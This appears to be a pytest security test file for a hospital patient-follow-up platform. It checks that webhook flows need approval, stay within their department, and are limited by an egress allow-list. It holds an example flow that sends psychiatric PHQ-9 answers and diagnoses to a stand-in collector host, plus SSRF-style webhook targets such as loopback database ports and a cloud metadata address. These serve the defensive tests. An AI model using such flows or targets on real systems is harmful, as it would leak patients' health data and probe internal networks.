"""Governed definitions (issue 14): the attacks seen on main, each reproduced through the real
builder, task and HIS APIs with the shipped apps, and refused.

1. A cardiology director publishes a flow whose ``call_webhook`` sends a psychiatry PHQ-9 out:
   the publish waits for a second person's approval; once approved, the cardiology flow never
   sees psychiatry's answers; its call is queued (not made in the patient's POST) and refused
   for a host not on the allow-list.
2. A webhook step aimed at 127.0.0.1:5432 (and at closed ports): refused without resolving a
   port into words — every stored error reads the same.
3. A cardiology rule set that resolves every complaint on receipt: it never sees obstetrics'.
4. The hospital-wide discharge app: not editable by a department director.
"""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, select

from careloop.engine import store
from careloop.engine.bundles import import_bundle
from careloop.engine.db import transaction
from careloop.engine.dispatcher import drain
from careloop.engine.domain import Department
from careloop.engine.models import AuditRow
from careloop.flows import egress
from careloop.flows.models import FlowRun, RunHistory, WebhookCall
from careloop.flows.scheduler import run_due
from careloop.forms.models import Submission
from careloop.forms.requests import create_request
from careloop.web import admin
from careloop.web.app import create_app
from careloop.web.builder_models import PublishRequest

ROOT = Path(__file__).resolve().parents[2]
PASSWORD = "Correct-Horse-Battery-9"
APPS = ("common", "discharge", "cardiology", "mental_health", "obstetrics", "complaints")
DEPARTMENTS = {"cardiology": "心内科", "psychiatry": "精神科", "obstetrics": "产科"}

EXFIL = {
    "kind": "flow", "key": "phq9_forward", "title": {"zh-CN": "转发", "en": "Forward"},
    "trigger": {"event": "form.submitted"},
    "steps": [
        {"key": "send", "type": "call_webhook", "url": "https://collector.example.net/in",
         "body": {"answers": "event.answers", "total": "event.scores.total",
                  "diagnoses": "encounter.diagnoses"}, "next": "done"},
        {"key": "done", "type": "end"}]}


@pytest.fixture
def world(engine: Engine) -> Engine:
    with transaction(engine) as session:
        for code, name in DEPARTMENTS.items():
            session.add(Department(id=code, name={"zh-CN": name, "en": code}))
    for name in APPS:
        import_bundle(ROOT / "app_definitions" / name, engine=engine, actor="test")
    with transaction(engine) as session:
        for username, role, department in (("dir_card", "dept_director", "cardiology"),
                                           ("dir_obs", "dept_director", "obstetrics"),
                                           ("px_a", "px_office", None),
                                           ("his_admin", "system_admin", None)):
            user = admin.create_user(session, username=username, display_name=username,
                                     password=PASSWORD)
            admin.grant(session, user, role, department)
    return engine


@pytest.fixture
def client(world: Engine) -> Iterator[TestClient]:
    with TestClient(create_app(), base_url="http://testserver") as c:
        yield c


def login(client: TestClient, username: str) -> TestClient:
    client.cookies.clear()
    client.headers.pop("X-CSRF-Token", None)
    page = client.get("/login")
    match = re.search(r'name="csrf_token" value="([^"]+)"', page.text)
    assert match
    response = client.post("/login", data={"username": username, "password": PASSWORD,
                                           "csrf_token": match.group(1), "next": "/"},
                           follow_redirects=False)
    assert response.status_code == 303, response.text
    client.headers["X-CSRF-Token"] = client.get("/api/v1/me").json()["csrf_token"]
    return client


def his(engine: Engine, event_id: str, type: str, payload: dict[str, Any]) -> None:
    from careloop.flows.ingest import ingest

    with transaction(engine) as session:
        status, body = ingest(session, {"event_id": event_id, "type": type, "payload": payload})
    assert status == 200, body


def admitted(engine: Engine, patient: str, encounter: str, department: str) -> None:
    his(engine, f"p-{patient}", "patient.upserted", {
        "patient_id": patient, "mrn": f"MRN-{patient}", "name": "王五", "phone": "13800000001",
        "birth_date": "1980-01-01", "locale": "zh-CN"})
    his(engine, f"e-{encounter}", "encounter.admitted", {
        "encounter_id": encounter, "patient_id": patient, "type": "inpatient",
        "department_id": department, "admitted_at": "2026-12-01T08:00:00+08:00",
        "diagnoses": ["F32.1"]})


def answer_phq9(client: TestClient, engine: Engine, patient: str, encounter: str) -> None:
    """The patient answers a PHQ-9 link through the patient page (/f/{token})."""
    from datetime import timedelta

    from careloop.engine.clock import now_utc

    with transaction(engine) as session:
        link = create_request(session, form_key="phq9", patient_id=patient,
                              encounter_id=encounter, channel="sms",
                              expires_at=now_utc() + timedelta(days=3))
    url = str(link.get("url") or f"/f/{link['token']}")
    path = url[url.index("/f/"):]
    page = client.get(path)
    assert page.status_code == 200
    answers = {f"q{i}": "2" for i in range(1, 10)}
    form = {"_page": "0", "_action": "submit", **answers}
    for page_no in range(5):  # a multi-page form: go on until it is submitted
        done = client.post(path, data={**form, "_page": str(page_no)})
        assert done.status_code == 200, done.text
        drain(engine)  # the page did not wait for rules and flows: the event queue runs them
        with transaction(engine) as session:
            if session.scalars(select(Submission).where(
                    Submission.patient_id == patient)).first() is not None:
                return
    raise AssertionError("the PHQ-9 was never submitted")


def approval_task(client: TestClient) -> dict[str, Any]:
    tasks = client.get("/api/v1/tasks", params={"view": "mine"}).json()
    items = tasks["items"] if isinstance(tasks, dict) else tasks
    found = [t for t in items if t.get("kind") == "publish_approval"]
    assert found, items
    return found[-1]


def test_exfiltrating_flow_waits_for_approval_then_sees_only_its_department(
        client: TestClient, world: Engine) -> None:
    director = login(client, "dir_card")
    published = director.post("/api/v1/builder/publish/flow/phq9_forward",
                              json={"app": "cardiology", "body": EXFIL})
    # not published: awaiting a second person's approval, said in words
    assert published.status_code == 202, published.text
    data = published.json()
    assert data["status"] == "awaiting_approval" and data["reasons"] == ["webhook"]
    assert "审批" in data["message"] or "approval" in data["message"]
    with transaction(world) as session:
        assert store.current(session, "flow", "phq9_forward") is None
    draft = director.get("/api/v1/builder/drafts/flow/phq9_forward").json()
    assert draft["awaiting_approval"]["status"] == "awaiting"

    # the approval is a flow approval task, decided at /api/v1/tasks/{id}/decision by a
    # hospital-wide editor — never by the author
    with transaction(world) as session:
        request = session.scalars(select(PublishRequest)).one()
        run = session.get(FlowRun, request.run_id)
        assert run is not None and run.flow_key == "definition_approval"
    px = login(client, "px_a")
    task = approval_task(px)
    assert "心内科随访" in str(task["title"]) and "转发" in str(task["title"])
    director = login(client, "dir_card")
    refused = director.post(f"/api/v1/tasks/{task['id']}/decision", json={"decision": "approve"})
    assert refused.status_code == 403
    px = login(client, "px_a")
    approved = px.post(f"/api/v1/tasks/{task['id']}/decision", json={"decision": "approve"})
    assert approved.status_code == 200, approved.text
    with transaction(world) as session:
        row = store.current(session, "flow", "phq9_forward")
        assert row is not None and row.app_id == "cardiology" and row.created_by == "dir_card"
        assert session.scalars(select(PublishRequest.status)).one() == "published"
        actions = [a.action for a in session.scalars(select(AuditRow).where(
            AuditRow.action.like("builder.publish%")).order_by(AuditRow.id))]
        assert actions == ["builder.publish_requested", "builder.publish",
                           "builder.publish_approved"]

    # a psychiatry patient's PHQ-9: the cardiology flow does not see it
    admitted(world, "PSY1", "E-PSY1", "psychiatry")
    answer_phq9(client, world, "PSY1", "E-PSY1")
    with transaction(world) as session:
        assert session.scalars(select(FlowRun).where(
            FlowRun.flow_key == "phq9_forward")).all() == []
        assert session.scalars(select(WebhookCall)).all() == []

    # a cardiology patient's: the run starts, the call is only queued in the patient's POST
    admitted(world, "CAR1", "E-CAR1", "cardiology")
    answer_phq9(client, world, "CAR1", "E-CAR1")
    with transaction(world) as session:
        call = session.scalars(select(WebhookCall)).one()
        assert call.status == "pending" and call.attempts == 0
    # the sweep refuses it: collector.example.net is not on the allow-list (never resolved)
    resolved: list[str] = []

    def resolver(host: str, port: int) -> list[str]:
        resolved.append(host)
        return ["93.184.216.34"]

    from careloop.flows import webhooks
    assert webhooks.dispatch_due(world, worker="t", resolver=resolver) == {"failed": 1}
    assert resolved == []
    with transaction(world) as session:
        call = session.scalars(select(WebhookCall)).one()
        assert (call.status, call.error) == ("failed", "host not on the allow-list")
        history = [h.action for h in session.scalars(select(RunHistory).where(
            RunHistory.run_id == call.run_id).order_by(RunHistory.id))]
        assert "webhook_queued" in history and history[-1] == "webhook_failed"


def test_rejected_publication_publishes_nothing(client: TestClient, world: Engine) -> None:
    director = login(client, "dir_card")
    assert director.post("/api/v1/builder/publish/flow/phq9_forward",
                         json={"app": "cardiology", "body": EXFIL}).status_code == 202
    px = login(client, "px_a")
    task = approval_task(px)
    assert px.post(f"/api/v1/tasks/{task['id']}/decision",
                   json={"decision": "reject"}).status_code == 200
    with transaction(world) as session:
        assert store.current(session, "flow", "phq9_forward") is None
        assert session.scalars(select(PublishRequest.status)).one() == "rejected"


def test_a_flow_without_outbound_data_in_a_department_app_publishes_at_once(
        client: TestClient, world: Engine) -> None:
    quiet = {"kind": "flow", "key": "card_note", "title": {"zh-CN": "备注", "en": "Note"},
             "trigger": {"manual": True},
             "steps": [{"key": "mark", "type": "set", "set": {"seen": "True"}, "next": "done"},
                       {"key": "done", "type": "end"}]}
    director = login(client, "dir_card")
    done = director.post("/api/v1/builder/publish/flow/card_note",
                         json={"app": "cardiology", "body": quiet})
    assert done.status_code == 200 and done.json()["version"] == 1


def test_hospital_wide_discharge_app_is_not_editable_by_a_department_director(
        client: TestClient, world: Engine) -> None:
    director = login(client, "dir_card")
    with transaction(world) as session:
        text = store.current(session, "flow", "discharge").source_text  # type: ignore[union-attr]
    refused = director.post("/api/v1/builder/publish/flow/discharge",
                            json={"app": "discharge", "text": text + "\n# mine\n"})
    assert refused.status_code == 403
    assert director.put("/api/v1/builder/drafts/flow/discharge",
                        json={"app": "discharge", "text": text}).status_code == 403
    # the PX office may, but a hospital-wide flow also waits for a second person
    px = login(client, "px_a")
    changed = text.replace("title: {zh-CN: 出院随访,", "title: {zh-CN: 出院随访（新）,", 1)
    assert changed != text
    waiting = px.post("/api/v1/builder/publish/flow/discharge",
                      json={"app": "discharge", "text": changed})
    assert waiting.status_code == 202 and waiting.json()["reasons"] == ["hospital_wide"]
    # its single px_office holder is the author: the task waits in the role's queue, and the
    # author may not decide it
    task = approval_task(px)
    assert px.post(f"/api/v1/tasks/{task['id']}/decision",
                   json={"decision": "approve"}).status_code == 403


COMPLAINT_CLOSER = """kind: ruleset
key: close_all_complaints
title: {zh-CN: 自动结案, en: Close on receipt}
on: [form.submitted]
forms: [complaint]
hit_policy: all
rules:
  - key: close
    title: {zh-CN: 结案, en: Close}
    when: "True"
    then:
      - {do: set_status, status: resolved}
"""


def test_a_cardiology_rule_set_never_touches_an_obstetrics_complaint(
        world: Engine, tmp_path: Path) -> None:
    from careloop.forms.runtime import submit

    app = tmp_path / "cardiology"
    (app / "rules").mkdir(parents=True)
    manifest = (ROOT / "app_definitions" / "cardiology" / "app.yaml").read_text("utf-8")
    (app / "app.yaml").write_text(manifest.replace("version: 0.1.0", "version: 0.1.1"), "utf-8")
    for sub in ("forms", "flows"):
        src = ROOT / "app_definitions" / "cardiology" / sub
        (app / sub).mkdir()
        for file in src.iterdir():
            (app / sub / file.name).write_text(file.read_text("utf-8"), "utf-8")
    (app / "rules" / "close_all.yaml").write_text(COMPLAINT_CLOSER, "utf-8")
    import_bundle(app, engine=world, actor="test")
    admitted(world, "OB1", "E-OB1", "obstetrics")
    admitted(world, "CA2", "E-CA2", "cardiology")
    answers = {"channel_of_complaint": "online", "category": "medical",
               "description": "产后伤口处理不当", "wants_contact": "no"}
    with transaction(world) as session:
        obstetric, _ = submit(session, form_key="complaint", answers=answers,
                              patient_id="OB1", encounter_id="E-OB1")
        cardiac, _ = submit(session, form_key="complaint", answers=answers,
                            patient_id="CA2", encounter_id="E-CA2")
        ids = obstetric.id, cardiac.id
    with transaction(world) as session:
        statuses = [session.get(Submission, i).status for i in ids]  # type: ignore[union-attr]
    assert statuses[0] != "resolved"  # obstetrics' complaint: untouched
    assert statuses[1] == "resolved"  # the rule set still acts in its own department


# --- outbound calls: the allow-list and what errors say -------------------------------------


def _closed_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


HOOK_APP = """id: hooks
name: {zh-CN: 接口, en: Hooks}
version: 0.1.0
format: 1
default_locale: zh-CN
scope: hospital
"""


def _hook_flow(key: str, url: str) -> str:
    return (f"kind: flow\nkey: {key}\ntitle: {{zh-CN: 接口, en: Hook}}\n"
            "trigger: {manual: true}\nsteps:\n"
            f"  - {{key: call, type: call_webhook, url: '{url}', retry: {{attempts: 1}}}}\n"
            "  - {key: done, type: end}\n")


@pytest.fixture
def hooks(engine: Engine, tmp_path: Path) -> Any:
    def make(**urls: str) -> None:
        app = tmp_path / "hooks"
        (app / "flows").mkdir(parents=True, exist_ok=True)
        (app / "app.yaml").write_text(HOOK_APP, "utf-8")
        for key, url in urls.items():
            (app / "flows" / f"{key}.yaml").write_text(_hook_flow(key, url), "utf-8")
        import_bundle(app, engine=engine, actor="test")
    return make


def _run(engine: Engine, flow: str) -> None:
    from careloop.flows.runtime import start

    with transaction(engine) as session:
        start(session, flow_key=flow, idempotency_key=f"t:{flow}")


def _errors(engine: Engine) -> dict[str, str | None]:
    with transaction(engine) as session:
        return {c.flow_key or "": c.error for c in session.scalars(select(WebhookCall))}


def test_a_port_scan_through_webhook_steps_learns_nothing(engine: Engine, hooks: Any) -> None:
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    listening.listen()
    open_port = listening.getsockname()[1]
    try:
        hooks(pg=f"http://127.0.0.1:{open_port}/", closed=f"http://127.0.0.1:{_closed_port()}/",
              local="http://localhost:5432/", meta="http://169.254.169.254/latest/",
              lan="http://10.0.0.7:8080/")
        for flow in ("pg", "closed", "local", "meta", "lan"):
            _run(engine, flow)
        run_due(engine)
    finally:
        listening.close()
    errors = _errors(engine)
    assert set(errors.values()) == {"host not on the allow-list"}, errors
    # even listed, a loopback or private address is refused unless the entry allows it
    with transaction(engine) as session:
        egress.allow(session, "127.0.0.1")
        egress.allow(session, "localhost")
    with transaction(engine) as session:
        for host, address in (("127.0.0.1", "127.0.0.1"), ("localhost", "::1")):
            with pytest.raises(egress.EgressRefused, match=r"^address not allowed$"):
                egress.check(session, f"http://{host}:5432/", lambda h, p, a=address: [a])
        egress.allow(session, "his.example.org")  # resolves to public and private addresses
        with pytest.raises(egress.EgressRefused, match=r"^address not allowed$"):
            egress.check(session, "https://his.example.org/x",
                         lambda h, p: ["93.184.216.34", "192.168.1.4"])
        assert egress.check(session, "https://his.example.org/x",
                            lambda h, p: ["93.184.216.34"]).host == "his.example.org"


def test_stored_errors_never_tell_ports_apart(engine: Engine, hooks: Any) -> None:
    """Allowed (allow_private), an open and a closed port both read 'connection failed' or an
    HTTP status — never an address, a port or the answer's body."""
    listening = socket.socket()  # accepts, never answers HTTP: like a database port
    listening.bind(("127.0.0.1", 0))
    listening.listen()
    open_port = listening.getsockname()[1]
    with transaction(engine) as session:
        egress.allow(session, "127.0.0.1", allow_private=True)
    import os
    os.environ["CARELOOP_WEBHOOK_TIMEOUT"] = "0.5"
    try:
        hooks(opened=f"http://127.0.0.1:{open_port}/",
              closed=f"http://127.0.0.1:{_closed_port()}/")
        _run(engine, "opened")
        _run(engine, "closed")
        run_due(engine)
    finally:
        os.environ.pop("CARELOOP_WEBHOOK_TIMEOUT", None)
        listening.close()
    errors = _errors(engine)
    assert errors == {"opened": "connection failed", "closed": "connection failed"}


class _Answer(BaseHTTPRequestHandler):
    status = 500
    location: str | None = None

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        self.send_response(type(self).status)
        if type(self).location:
            self.send_header("Location", str(type(self).location))
        self.end_headers()
        self.wfile.write(b"secret internal answer 10.1.2.3:5432")

    def log_message(self, *args: object) -> None:
        pass


def test_http_errors_and_redirects_read_as_words(engine: Engine, hooks: Any) -> None:
    server = HTTPServer(("127.0.0.1", 0), _Answer)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    with transaction(engine) as session:
        egress.allow(session, "127.0.0.1", allow_private=True)
    try:
        base = f"http://127.0.0.1:{server.server_port}"
        hooks(fails=f"{base}/a")
        _run(engine, "fails")
        run_due(engine)
        _Answer.status, _Answer.location = 302, "http://169.254.169.254/"
        hooks(moves=f"{base}/b")
        _run(engine, "moves")
        run_due(engine)
    finally:
        server.shutdown()
        server.server_close()
    assert _errors(engine) == {"fails": "HTTP 500", "moves": "redirect refused"}


def test_allow_list_admin_page_and_cli(client: TestClient, world: Engine) -> None:
    from click.testing import CliRunner

    from careloop.flows.cli import flows as flows_cli

    runner = CliRunner()
    added = runner.invoke(flows_cli, ["allow-host", "HIS.Example.org", "--note", "HIS"])
    assert added.exit_code == 0, added.output
    listed = runner.invoke(flows_cli, ["allowed-hosts"])
    assert "his.example.org" in listed.output
    admin_client = login(client, "his_admin")
    page = admin_client.get("/admin/outbound")
    assert page.status_code == 200 and "his.example.org" in page.text
    assert "外部接口白名单" in page.text or "Outbound allow-list" in page.text
    token = admin_client.headers["X-CSRF-Token"]
    done = admin_client.post("/admin/outbound", data={"host": "lab.example.org",
                                                      "csrf_token": token},
                             follow_redirects=False)
    assert done.status_code == 303
    with transaction(world) as session:
        assert [h.host for h in egress.allowed_hosts(session)] == ["his.example.org",
                                                                   "lab.example.org"]
        rows = session.scalars(select(AuditRow).where(
            AuditRow.action == "outbound.allow").order_by(AuditRow.id)).all()
        assert [r.details["host"] for r in rows] == ["his.example.org", "lab.example.org"]
    removed = runner.invoke(flows_cli, ["disallow-host", "his.example.org"])
    assert removed.exit_code == 0
    # a clinician may not open the page
    director = login(client, "dir_card")
    assert director.get("/admin/outbound").status_code == 403
